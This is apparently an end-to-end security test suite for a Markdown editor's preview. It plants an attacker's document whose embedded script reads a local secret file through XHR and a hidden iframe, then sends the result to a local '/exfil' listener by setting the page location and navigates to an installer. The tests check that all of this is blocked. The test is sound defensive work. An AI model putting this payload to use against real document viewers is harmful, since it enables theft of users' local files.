// An attacker's document in the preview, end to end on a real display. Its
// raw HTML reads a file of the user's by script and through a hidden frame,
// and hands what it got to the desktop by setting the page's location,
// without a click. The program itself, started on it with a new user's
// preferences, reads nothing and hands nothing to the desktop's opener (a
// stand-in first on the PATH); in the document window, printing the preview
// sends nothing out either, and a link the user clicks still goes out.
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QProcess>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <csignal>

#include "app/documents/smart_editor_document.h"
#include "app/extras/tzr_theme_controller.h"
#include "e2e/application.h"
#include "e2e/new_user.h"
#include "platform/runtime/alerts.h"
#include "platform/prefs/registered_defaults.h"
#include "support/qt_wait.h"
#include "support/stand_in_opener.h"
#include "webview/web_test_support.h"
#include "window/content/master_view_content.h"
#include "window/preview/smart_web_view.h"
#include "window/content/tzr_master_view.h"

using namespace std::chrono_literals;

namespace {

const QByteArray kSecret = "TOPSECRET-42";

bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

// A user's home: the secret, an installer, and the document with a picture
// beside it in "notes". The document's script shows what it got in the page
// and writes it to the page's console ("got: ..."), then sends it to
// `exfiltrateTo` by setting the page's location, clicks its link and goes to
// the installer.
struct AttackersDocument {
    QTemporaryDir dir;
    QString home = dir.filePath(QStringLiteral("home"));
    QString document = home + QStringLiteral("/notes/notes.md");

    bool write(const QString &exfiltrateTo) {
        if (!QDir().mkpath(home + QStringLiteral("/notes")) || !writeFile(home + "/secret.txt", kSecret + '\n') ||
            !writeFile(home + "/setup.msi", QByteArray("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8)))
            return false;
        QImage picture(37, 23, QImage::Format_RGB32);
        picture.fill(Qt::darkGreen);
        if (!picture.save(home + QStringLiteral("/notes/pic.png"), "PNG"))
            return false;
        QString text = QStringLiteral(R"md(# Notes

A picture beside the document: ![a picture](pic.png)

Go to [the site](https://example.com/clicked).

<pre id="got">nothing yet</pre>

<script>
setTimeout(function () { var got = 'refused'; try { var x = new XMLHttpRequest(); x.open('GET', '@SECRET@', false); x.send(); got = x.responseText; } catch (e) {}
try { got += ' | ' + document.querySelector('iframe').contentDocument.documentElement.textContent; } catch (e) { got += ' | unreadable'; }
var pic = document.querySelector('img'); got += ' | ' + pic.naturalWidth + 'x' + pic.naturalHeight;
document.getElementById('got').textContent = got;
console.log('got: ' + got);
top.location = '@EXFIL@?d=' + encodeURIComponent(got);
setTimeout(function () { document.querySelector('a[href^="https"]').click(); }, 300);
setTimeout(function () { location.href = '@INSTALLER@'; }, 600); }, 2000);
</script>

<iframe style="display:none" src="@SECRET@"></iframe>
)md");
        text.replace(QLatin1String("@SECRET@"), QUrl::fromLocalFile(home + "/secret.txt").toString(QUrl::FullyEncoded))
            .replace(QLatin1String("@INSTALLER@"), QUrl::fromLocalFile(home + "/setup.msi").toString(QUrl::FullyEncoded))
            .replace(QLatin1String("@EXFIL@"), exfiltrateTo);
        return writeFile(document, text.toUtf8());
    }
};

// A web server on this machine that answers every request with nothing and
// keeps the path and query of each.
class Listener {
public:
    Listener() {
        m_server.listen(QHostAddress::LocalHost);
        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    if (!socket->canReadLine())
                        return;
                    const QList<QByteArray> request = socket->readLine().split(' ');
                    if (request.size() >= 2)
                        m_requests << QUrl::fromEncoded(request[1]);
                    socket->write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
                    socket->disconnectFromHost();
                });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }
    QString address(const QString &path) const {
        return QStringLiteral("http://127.0.0.1:%1%2").arg(m_server.serverPort()).arg(path);
    }
    // The requests for `path` so far.
    QList<QUrl> requestsFor(const QString &path) const {
        QList<QUrl> found;
        for (const QUrl &url : m_requests)
            if (url.path() == path)
                found << url;
        return found;
    }

private:
    QTcpServer m_server;
    QList<QUrl> m_requests;
};

}  // namespace

// The program itself, as the user starts it on the document.
TEST(PreviewSafetyEndToEnd, TheProgramShowsAnAttackersDocumentWithoutReadingOrHandingOutAFile) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    Listener listener;
    AttackersDocument attack;
    ASSERT_TRUE(attack.write(listener.address("/exfil")));
    const QString config = attack.dir.filePath("config");
    ASSERT_TRUE(writeProgramPreferences(config, "{\"checkForAnnouncements\": false}"));

    QProcess orvane;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("HOME", attack.home);
    environment.insert("XDG_CONFIG_HOME", config);
    environment.insert("XDG_DATA_HOME", attack.dir.filePath("data"));
    environment.insert("PATH", QString::fromLocal8Bit(opener.path()));
    environment.remove("QT_QPA_PLATFORM");
    // What the page writes to its console comes out in the program's log.
    environment.insert("QT_LOGGING_RULES", "qt.webenginecontext.info=false;orvane.platform.page.debug=true");
    orvane.setProcessEnvironment(environment);
    QString log;
    QObject::connect(&orvane, &QProcess::readyReadStandardError,
                     [&] { log += QString::fromLocal8Bit(orvane.readAllStandardError()); });
    orvane.start(QStringLiteral(ORVANE_BINARY), {attack.document});
    ASSERT_TRUE(orvane.waitForStarted(10000));

    // The document's script ran in the preview and told what it got; the
    // page then had three seconds to get something out.
    const bool reported = testing_qt::spinUntil([&] { return log.contains("page console: got: "); }, 90s);
    testing_qt::spinFor(3s);
    ::kill(pid_t(orvane.processId()), SIGTERM);
    EXPECT_TRUE(orvane.waitForFinished(30000));
    log += QString::fromLocal8Bit(orvane.readAllStandardError());
    ASSERT_TRUE(reported) << log.toStdString();

    const qsizetype start = log.indexOf("page console: got: ") + qsizetype(sizeof("page console: got: ") - 1);
    const QString got = log.mid(start, log.indexOf(" at orvane:", start) - start);
    EXPECT_TRUE(got.startsWith("refused | ")) << got.toStdString();
    EXPECT_FALSE(log.contains(QString::fromLatin1(kSecret))) << got.toStdString();
    EXPECT_TRUE(got.endsWith(" | 37x23")) << got.toStdString();  // the picture beside it shows
    EXPECT_TRUE(listener.requestsFor("/exfil").isEmpty());
    EXPECT_EQ(opener.calls(), QStringList());
}

// The same document in the program's document window: what the page got is
// read from the page itself, printing the preview sends nothing out, and a
// link the user clicks goes to the desktop's opener.
TEST(PreviewSafetyEndToEnd, InTheDocumentWindowNothingIsReadAndOnlyTheUsersClickLeaves) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    AttackersDocument attack;
    ASSERT_TRUE(attack.write(QStringLiteral("http://127.0.0.1:8709/exfil")));
    NewUser user(attack.dir.filePath("preferences.json"));
    platform::ScriptedAlerts alerts;
    // Its documents closed and the program ended whatever an assertion
    // leaves, so that a repeat starts afresh.
    Application app(user.defaults(), TZRThemeController::standardLocations());
    SmartEditorDocument *document = app.open(attack.document);
    ASSERT_TRUE(document);
    auto *content = dynamic_cast<TZRMasterView *>(document->content());
    ASSERT_TRUE(content && content->webView());
    SmartWebView &preview = *content->webView();

    auto got = [&] { return web_test::evaluateText(preview, "document.getElementById('got').textContent"); };
    ASSERT_TRUE(testing_qt::spinUntil([&] { return got() != "nothing yet" && got() != "<no answer>"; }, 60s))
        << got().toStdString();
    testing_qt::spinFor(3s);
    EXPECT_TRUE(got().startsWith("refused | ")) << got().toStdString();
    EXPECT_TRUE(got().endsWith(" | 37x23")) << got().toStdString();
    EXPECT_FALSE(web_test::evaluateText(preview, "document.documentElement.outerHTML").contains(kSecret));
    EXPECT_EQ(opener.calls(), QStringList());

    // Printing lays out the same page, and sends nothing out.
    const QString pdf = attack.dir.filePath("preview.pdf");
    ASSERT_TRUE(document->printPreviewToPdf(pdf));
    EXPECT_GT(QFileInfo(pdf).size(), 0);
    EXPECT_EQ(opener.calls(), QStringList());

    ASSERT_TRUE(web_test::clickElement(preview, "a[href^=\"https\"]"));
    ASSERT_TRUE(testing_qt::spinUntil([&] { return !opener.calls().isEmpty(); }, 20s));
    EXPECT_EQ(opener.calls(), QStringList{"https://example.com/clicked"});
    EXPECT_EQ(alerts.count(), 0);
}
